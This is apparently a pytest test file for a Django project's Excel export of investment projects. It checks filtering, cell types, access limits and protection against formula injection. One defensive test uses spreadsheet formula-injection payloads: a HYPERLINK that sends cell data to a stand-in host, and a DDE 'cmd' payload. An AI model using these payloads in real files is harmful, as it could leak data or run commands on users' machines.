"""The projects list's Excel export (导出Excel): exactly the filtered rows, as numbers, dates and safe text."""

import datetime
import io
from decimal import Decimal
from urllib.parse import quote

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from access.roles import Role
from landing.stages import with_stage_code
from projects.exporting import COLUMNS, project_row, with_verified_arrived
from projects.filters import with_tier
from projects.models import Project, Status
from tests.factories import (
    ArrivalFactory,
    OrganisationFactory,
    ProjectFactory,
    RuleSetFactory,
    SpecialGroupFactory,
    UnitFactory,
    user_with_role,
)
from tests.formula_texts import FORMULA_LIKE

URL = reverse("project_export")
HEADERS = [
    "项目编号",
    "项目名称",
    "投资方",
    "牵头单位",
    "配合单位",
    "专项招商组",
    "产业类型",
    "项目来源",
    "协议资金（亿元）",
    "预计产值（亿元）",
    "到位资金（亿元，已核实）",
    "签约日期",
    "项目档次",
    "项目阶段",
    "审核状态",
]


@pytest.fixture
def units(db):
    RuleSetFactory(year=2021)
    return {"a": UnitFactory(name="甲园区"), "b": UnitFactory(name="乙园区"), "c": UnitFactory(name="丙部门")}


@pytest.fixture
def reviewer(db):
    return user_with_role(Role.REVIEWER, username="reviewer")


def export(client, user, **params):
    client.force_login(user)
    return client.get(URL, params)


def sheet(response):
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def data_rows(response) -> list[list]:
    return [[cell.value for cell in row] for row in sheet(response).iter_rows(min_row=2)]


def exported_codes(response) -> list[str]:
    return [row[0] for row in data_rows(response)]


def test_the_header_row_is_in_chinese(client, units, reviewer):
    header = [cell.value for cell in next(sheet(export(client, reviewer)).iter_rows(max_row=1))]

    assert header == HEADERS == [column.header for column in COLUMNS]


def test_it_exports_exactly_the_filtered_rows_in_the_list_s_order_without_paging(client, units, reviewer):
    for index in range(30):
        ProjectFactory(code=f"KEEP-{index:02d}", lead_unit=units["a"], agreement_capital=Decimal(index + 1))
    ProjectFactory(code="DROP-STATUS", lead_unit=units["a"], status=Status.DRAFT)
    ProjectFactory(code="DROP-UNIT", lead_unit=units["b"])
    params = {"unit": units["a"].pk, "status": "approved", "sort": "-agreement_capital", "page": "2"}

    exported = exported_codes(export(client, reviewer, **params))
    listed = client.get(reverse("project_list"), {**params, "page": "1"}).context["table"]

    assert exported == [f"KEEP-{index:02d}" for index in reversed(range(30))]
    assert exported[:25] == [row.record.code for row in listed.paginated_rows]


def test_a_row_holds_money_as_numbers_dates_as_dates_and_labels_as_text(client, units, reviewer):
    group = SpecialGroupFactory(name="新材料招商组")
    ProjectFactory(
        code="FULL",
        name="锂电池材料项目",
        investor="宁德某新能源公司",
        lead_unit=units["a"],
        cooperating=[units["c"], units["b"]],
        group=group,
        agreement_capital=Decimal("12.3456"),
        expected_output=Decimal("30"),
        signed_on=datetime.date(2021, 5, 20),
    )

    response = export(client, reviewer)
    worksheet = sheet(response)
    money, output, signed = worksheet["I2"], worksheet["J2"], worksheet["L2"]

    assert data_rows(response) == [
        [
            "FULL",
            "锂电池材料项目",
            "宁德某新能源公司",
            "甲园区",
            "丙部门、乙园区",
            "新材料招商组",
            "工业",
            "市外",
            12.3456,
            30,
            0,
            datetime.datetime(2021, 5, 20),
            "较大项目",
            "签约",
            "已审核",
        ]
    ]
    assert (money.data_type, money.number_format) == ("n", "0.00")
    assert (output.data_type, output.number_format) == ("n", "0.00")
    assert (signed.data_type, signed.number_format) == ("d", "yyyy-mm-dd")


def test_the_arrived_column_sums_the_verified_arrivals_exactly_and_leaves_out_the_unverified(client, units, reviewer):
    project = ProjectFactory(code="PAID", lead_unit=units["a"])
    for amount in ("0.1", "0.2", "1.2345"):  # 0.1 + 0.2 is 0.30000000000000004 in floating point
        ArrivalFactory(project=project, amount=Decimal(amount), verified=True, verified_by=reviewer)
    ArrivalFactory(project=project, amount=Decimal("500"), verified=False)
    ArrivalFactory(project=ProjectFactory(code="OTHER", lead_unit=units["b"]), amount=Decimal("7"), verified=True)
    ArrivalFactory(project=ProjectFactory(code="UNVERIFIED", lead_unit=units["a"]), amount=Decimal("3"), verified=False)

    worksheet = sheet(export(client, reviewer, sort="code"))

    arrived = {row[0].value: row[10] for row in worksheet.iter_rows(min_row=2)}
    assert {code: cell.value for code, cell in arrived.items()} == {"OTHER": 7, "PAID": 1.5345, "UNVERIFIED": 0}
    assert (arrived["PAID"].data_type, arrived["PAID"].number_format) == ("n", "0.00")


def test_the_arrived_sum_is_an_exact_decimal(units, reviewer):
    project = ProjectFactory(lead_unit=units["a"])
    for _ in range(10):
        ArrivalFactory(project=project, amount=Decimal("0.1"), verified=True)

    row = project_row(with_stage_code(with_tier(with_verified_arrived(Project.objects.all()), [])).get())

    assert row[10] == Decimal("1") and isinstance(row[10], Decimal)


def test_the_header_row_has_an_autofilter_over_every_row_and_column(client, units, reviewer):
    for _ in range(3):
        ProjectFactory(lead_unit=units["a"])

    assert sheet(export(client, reviewer)).auto_filter.ref == "A1:O4"


def test_an_empty_export_still_has_its_autofilter_on_the_header(client, units, reviewer):
    assert sheet(export(client, reviewer)).auto_filter.ref == "A1:O1"


def test_empty_optional_facts_are_empty_cells(client, units, reviewer):
    ProjectFactory(lead_unit=units["a"], investor="", expected_output=None, signed_on=None, status=Status.DRAFT)

    row = data_rows(export(client, reviewer))[0]

    assert row[4] is None and row[5] is None and row[9] is None and row[11] is None


@pytest.mark.parametrize(
    "name, investor",
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "@SUM(1)"),
        ("+1+2", "-2+3"),
        ("\t=1+1", "=cmd|' /C calc'!A0"),
    ],
)
def test_text_that_looks_like_a_formula_comes_back_as_text(client, units, reviewer, name, investor):
    ProjectFactory(name=name, investor=investor, lead_unit=units["a"])

    worksheet = sheet(export(client, reviewer))

    for cell, text in ((worksheet["B2"], name), (worksheet["C2"], investor)):
        assert cell.data_type == "s"
        assert cell.value == text
        assert cell.quotePrefix is True


def test_every_text_a_spreadsheet_could_run_comes_back_as_quoted_text_even_behind_control_characters(
    client, units, reviewer
):
    for index, (text, _) in enumerate(FORMULA_LIKE):
        ProjectFactory(code=f"P{index:02d}", name=text, investor=text, lead_unit=units["a"])

    worksheet = sheet(export(client, reviewer, sort="code"))

    for row, (_, written) in zip(worksheet.iter_rows(min_row=2), FORMULA_LIKE, strict=True):
        for cell in row[1:3]:  # 项目名称, 投资方
            assert (cell.value, cell.data_type, cell.quotePrefix) == (written, "s", True)


def test_staff_never_export_another_unit_s_project_not_even_through_the_keyword(client, units):
    ProjectFactory(code="OWN", name="共同项目甲", lead_unit=units["a"])
    ProjectFactory(code="COOPERATING", name="共同项目乙", lead_unit=units["c"], cooperating=[units["a"]])
    ProjectFactory(code="OTHER", name="共同项目丙", lead_unit=units["b"])
    staff = user_with_role(Role.STAFF, units["a"], username="staff")

    assert sorted(exported_codes(export(client, staff))) == ["COOPERATING", "OWN"]
    assert sorted(exported_codes(export(client, staff, keyword="共同"))) == ["COOPERATING", "OWN"]
    assert exported_codes(export(client, staff, unit=units["b"].pk)) == []


def test_the_file_is_an_xlsx_attachment_named_in_chinese_with_the_district_and_today_s_date(client, units, reviewer):
    OrganisationFactory()
    response = export(client, reviewer)

    name = f"涪陵区招商项目_{timezone.localdate():%Y%m%d}.xlsx"
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == f"attachment; filename*=utf-8''{quote(name)}"


def test_invalid_filters_send_the_user_back_to_the_list_with_the_errors(client, units, reviewer):
    response = export(client, reviewer, signed_from="2021-12-01", signed_to="2021-01-01", page="3")

    assert response.status_code == 302
    assert response["Location"] == f"{reverse('project_list')}?signed_from=2021-12-01&signed_to=2021-01-01"
    page = client.get(response["Location"]).content.decode()
    assert "筛选条件有误，未能导出" in page
    assert "结束日期（2021-01-01）早于开始日期（2021-12-01）" in page


@pytest.mark.parametrize("size", [3, 30])
def test_the_query_count_does_not_grow_with_the_number_of_projects(client, django_assert_num_queries, units, reviewer, size):
    group = SpecialGroupFactory()
    for _ in range(size):
        project = ProjectFactory(lead_unit=units["a"], cooperating=[units["b"], units["c"]], group=group)
        ArrivalFactory(project=project, amount=Decimal("0.5"), verified=True)
        ArrivalFactory(project=project, amount=Decimal("0.25"), verified=True)
    client.force_login(reviewer)

    # session, user, groups, rule sets, rows (verified arrivals summed in their query), their
    # cooperating units; the organisation (its district names the file)
    with django_assert_num_queries(7):
        response = client.get(URL)

    assert [row[10] for row in data_rows(response)] == [0.75] * size
